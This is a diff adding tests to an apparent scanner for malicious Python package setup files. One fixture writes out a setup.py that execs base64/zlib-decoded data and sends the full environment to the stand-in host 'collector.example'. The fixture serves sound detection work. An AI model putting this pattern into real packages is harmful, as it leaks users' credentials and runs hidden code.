@@ -360,3 +360,30 @@ def test_outside_paths_are_tracked_through_names(tmp_path):
         ("write-outside", "setup.py", 10, H),
         ("write-outside", "setup.py", 11, H),
     }
+
+
+def test_source_word_shortcuts_never_hide_a_finding():
+    """The visitor skips environment and taint checks in files that cannot contain them; a file
+    that spells the names only through aliases is still caught (the words are in its imports)."""
+    from shouldi.scanners.heuristics.names import DECODERS, NETWORK, may_decode_or_download
+
+    for name in sorted(DECODERS | NETWORK):
+        module, _, attr = name.rpartition(".")
+        source = f"from {module} import {attr} as x\n" if module not in ("bytes", "bytearray") \
+            else f"x = {module}.{attr}\n"
+        assert may_decode_or_download(source.encode()), name
+    assert not may_decode_or_download(b"import os\nprint(os.getcwd())\n")
+
+
+def test_aliased_environ_and_decoders_are_still_followed(tmp_path):
+    files = {"setup.py": (
+        "from os import environ as E\n"
+        "import zlib as Z, base64 as B\n"
+        "import urllib.request as U\n"
+        "blob = B.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')\n"
+        "code = Z.decompress(blob)\n"
+        "exec(code)\n"
+        "U.urlopen('https://collector.example', data=str(dict(E)).encode())\n"
+    )}
+    rules = {(rule, line) for rule, _, line, _ in hits(scan(tmp_path, files))}
+    assert {("exec-decoded-data", 6), ("network", 7), ("environ-dump", 7)} <= rules
